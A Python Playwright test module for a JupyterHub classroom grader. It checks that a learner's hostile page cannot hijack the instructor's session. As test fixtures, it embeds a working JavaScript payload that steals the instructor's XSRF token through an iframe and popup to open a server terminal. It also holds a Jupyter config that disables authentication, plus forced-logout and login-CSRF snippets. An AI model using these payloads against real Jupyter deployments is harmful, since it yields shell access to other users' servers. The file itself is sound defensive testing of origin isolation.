"""A learner's page in the instructor's browser: it reads no window, frame or token of the instructor."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from grader.workshop import origins, start
from grader.workshop.paths import INSTRUCTOR
from tests.browser import classroom as rooms
from tests.browser.classroom import Classroom, lab_of
from tests.browser.conftest import PATIENCE_MS, shot

pytestmark = [
    pytest.mark.classroom,
    pytest.mark.models,
    pytest.mark.timeout(1800),
    pytest.mark.skipif(
        os.geteuid() != 0, reason="a workshop makes accounts, which only root may do"
    ),
]

MALLORY = "learner01"
DOMAIN = "class.example"
# What a learner's own configuration can do to their server: a page for everybody, without its usual headers.
EVIL_SERVER = """
import jupyter_server.files.handlers as files
from tornado import web

class Page(web.RequestHandler):
    def get(self):
        self.finish(open("/{home}/evil.html").read())

files.default_handlers.insert(0, (r"/evil", Page))
get_config().ServerApp.allow_unauthenticated_access = True
"""
# Open the instructor's page, take its token out of it, and open a terminal with it.
EVIL_PAGE = """<!DOCTYPE html><title>Help with lab 01</title><body><script>
const target = "{target}";
window.taken = [];
async function take(page, how) {
  try {
    const found = page.document.cookie.match(/_xsrf=([^;]+)/);
    const sent = await page.fetch(target + "/api/terminals",
      {method: "POST", headers: {"X-XSRFToken": found[1]}});
    if (sent.ok) window.taken.push(how);
  } catch (error) { window.failed = (window.failed || 0) + 1; }
}
const frame = document.createElement("iframe");
frame.onload = () => take(frame.contentWindow, "frame");
frame.src = target + "/formgrader";
document.body.append(frame);
const popup = window.open(target + "/formgrader");
setTimeout(() => take(popup, "popup"), 8000);
fetch(target + "/api/terminals", {method: "POST", mode: "no-cors", credentials: "include"})
  .catch(() => 0);
</script>"""

TERMINALS = """server => fetch(server + "/api/terminals",
  {headers: {"X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)[1]}}).then(sent => sent.json())"""


# What else a learner's page can send to the hub: a logout, and the login of an account that it knows.
LOG_OUT = """hub => new Promise(done => {
  const image = new Image();
  image.onload = image.onerror = done;
  image.src = hub + "/hub/logout";
})"""
LOG_IN = """([hub, domain, values]) => {
  document.cookie = `_xsrf=${values._xsrf}; domain=${domain}; path=/hub/; secure`;
  const form = document.createElement("form");
  Object.assign(form, {method: "post", action: hub + "/hub/login"});
  for (const [name, value] of Object.entries(values))
    form.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(form);
  form.submit();
}"""


@pytest.fixture(scope="module")
def shared_origin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the hub's configuration without subdomains, which the attack must succeed against."""
    path = tmp_path_factory.mktemp("hub") / "config.py"
    path.write_text(
        f'load_subconfig({str(start.CONFIG)!r})\nc = get_config()\nc.JupyterHub.subdomain_host = ""\n'
    )
    path.parent.chmod(0o755)
    return path


@contextmanager
def evil_room(target: str, **options: Any) -> Iterator[Classroom]:
    """Yield a workshop in which a learner serves EVIL_PAGE against the instructor's server at `target`."""
    with rooms.classroom(1, **options) as room:
        home = room.workshop.home(MALLORY)
        for name, text in (
            ("evil.html", EVIL_PAGE),
            (".jupyter/jupyter_server_config.py", EVIL_SERVER),
        ):
            path = home / name
            path.parent.mkdir(exist_ok=True)
            address = target or room.server(INSTRUCTOR)
            path.write_text(text.replace("{target}", address).replace("{home}", str(home)[1:]))
            shutil.chown(path, MALLORY, MALLORY)
            shutil.chown(path.parent, MALLORY, MALLORY)
        yield room


def attacked(chromium: Browser, room: Classroom, page: str) -> tuple[Page, list[str], list]:
    """Open the learner's page as the logged-in instructor; return what it took, and the open terminals."""
    for name in (MALLORY, INSTRUCTOR):
        context = chromium.new_context(ignore_https_errors=True)
        context.set_default_timeout(PATIENCE_MS)
        tab = context.new_page()
        lab_of(tab, room, name)
    server = tab.url.split("/lab")[0]
    evil = context.new_page()
    evil.goto(page)
    evil.wait_for_timeout(12_000)
    taken = evil.evaluate("window.taken")
    shot(evil, "origins-attack")
    return tab, taken, tab.evaluate(TERMINALS, server)


def test_on_one_origin_the_learners_page_opens_the_instructors_shell(chromium, shared_origin):
    """The attack is a real one: without subdomains it succeeds."""
    with evil_room(f"/user/{INSTRUCTOR}", config=shared_origin) as room:
        page = f"{room.address}/user/{MALLORY}/evil"
        _, taken, terminals = attacked(chromium, room, page)
    assert sorted(taken) == ["frame", "popup"]
    assert len(terminals) >= 2


def test_with_an_origin_for_each_server_it_takes_nothing(chromium):
    with evil_room("") as room:
        page = f"{room.server(MALLORY)}/evil"
        tab, taken, terminals = attacked(chromium, room, page)
        assert tab.url.startswith(room.server(INSTRUCTOR))
    assert (taken, terminals) == ([], [])


def stays_logged_in(tab: Page, room: Classroom, page: str) -> None:
    """Let the learner's page try to log its visitor out; then the visitor does so by clicks."""
    evil = tab.context.new_page()
    evil.goto(page)
    evil.evaluate(LOG_OUT, room.address)
    # A page of the hub's own leads there, for a person who is logged in at once.
    evil.evaluate("hub => { location = hub + '/hub/login?next=%2Fhub%2Flogout'; }", room.address)
    button = evil.get_by_role("button", name="Log out")
    button.wait_for()
    shot(evil, "origins-logout")
    tab.locator(".lm-MenuBar-itemLabel", has_text="File").click()
    tab.get_by_role("menuitem", name="Log Out").click()
    tab.wait_for_url(f"{room.address}/hub/home")
    button.click()
    evil.wait_for_url(f"{room.address}/hub/login**")


def logged_in_as_another(tab: Page, room: Classroom, page: str) -> list[str]:
    """Let the learner's page log its visitor in as the learner; return the names of the visitor's cookies."""
    stranger = tab.context.browser.new_context(ignore_https_errors=True)
    stranger.new_page().goto(f"{room.address}/hub/login")
    [xsrf] = [one["value"] for one in stranger.cookies() if one["name"] == "_xsrf"]
    tab.context.clear_cookies()  # as by a header of the learner's server, `Clear-Site-Data`
    tab.goto(page)
    values = {"username": MALLORY, "password": room.people[MALLORY].password, "_xsrf": xsrf}
    tab.evaluate(LOG_IN, [room.address, DOMAIN, values])
    tab.get_by_text("Another page has sent the login").wait_for()
    return [one["name"] for one in tab.context.cookies()]


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Return the files of a self-signed certificate for DOMAIN and all names under it."""
    folder = tmp_path_factory.mktemp("tls")
    files = folder / "certificate.pem", folder / "key.pem"
    names = f"subjectAltName=DNS:{DOMAIN},DNS:*.{DOMAIN}"
    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1"]
    command += ["-subj", f"/CN={DOMAIN}", "-addext", names, "-out", files[0], "-keyout", files[1]]
    subprocess.run(command, check=True, capture_output=True)
    return files


def test_with_a_domain_and_tls_cookies_belong_to_one_name(class_example, certificate):
    """The same by TLS, where a cookie has the prefix that no other name under the domain can set."""
    with evil_room("", domain=DOMAIN, tls=certificate) as room:
        page = f"{room.server(MALLORY)}/evil"
        tab, taken, terminals = attacked(class_example, room, page)
        assert tab.url.startswith(f"https://{INSTRUCTOR}.{DOMAIN}:{room.workshop.port}/")
        tab.goto(origins.board(room.workshop))
        assert "learners" in tab.locator("h1").inner_text()
        cookies = tab.context.cookies()
        tab.goto(f"{room.server(INSTRUCTOR)}/lab")
        stays_logged_in(tab, room, page)
        assert not [one for one in logged_in_as_another(tab, room, page) if "hub-login" in one]
    assert (taken, terminals) == ([], [])
    logins = [one for one in cookies if one["name"].startswith("__Host-")]
    assert {one["domain"].split(".")[0] for one in logins} == {
        "class",
        "instructor",
        "board--service",
    }
    assert all(one["secure"] and one["sameSite"] == "Lax" and one["httpOnly"] for one in logins)
    others = {one["name"] for one in cookies if one not in logins}
    assert others <= {"_xsrf", "jupyterhub-session-id"}  # neither logs anybody in


@pytest.fixture(scope="module")
def class_example(chromium: Browser) -> Iterator[Browser]:
    """Yield a browser for which every name under DOMAIN is this machine."""
    options = ["--no-sandbox"] if os.geteuid() == 0 else []
    options += [f"--host-resolver-rules=MAP *.{DOMAIN} 127.0.0.1, MAP {DOMAIN} 127.0.0.1"]
    kind = chromium.browser_type
    browser = kind.launch(executable_path=shutil.which("chromium"), args=options)
    yield browser
    browser.close()
